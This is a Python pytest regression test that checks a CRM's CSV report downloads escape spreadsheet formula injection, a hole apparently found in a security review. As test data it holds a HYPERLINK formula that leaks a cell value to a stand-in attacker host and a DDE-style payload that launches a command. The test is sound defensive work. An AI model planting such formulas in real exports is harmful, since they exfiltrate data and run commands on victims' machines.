"""The holes of the web security review (issue 29), each reproduced and shown closed."""
from __future__ import annotations

import csv
import io

import pytest

from crmcore.testing import make_customer

from .conftest import login

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C2,"open")'


# --- hole 2: formula injection in web CSV downloads -----------------------------------------------
@pytest.mark.crm_plugins("pipeline")
def test_report_downloads_quote_formulas(client, users, crm_app):
    from crmcore_pipeline.deals import create_deal

    cid = make_customer(crm_app, HYPERLINK)
    with crm_app.unit_of_work() as uow:
        create_deal(uow, customer=cid, title="@SUM(1+1)*cmd|' /C calc'!A0", amount="1000")
    crm_app.clock.advance(days=30)
    login(client, "viewer")
    download = client.get("/reports/pipeline.stale.csv")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
    assert rows[0]["customer"] == "'" + HYPERLINK
    assert rows[0]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
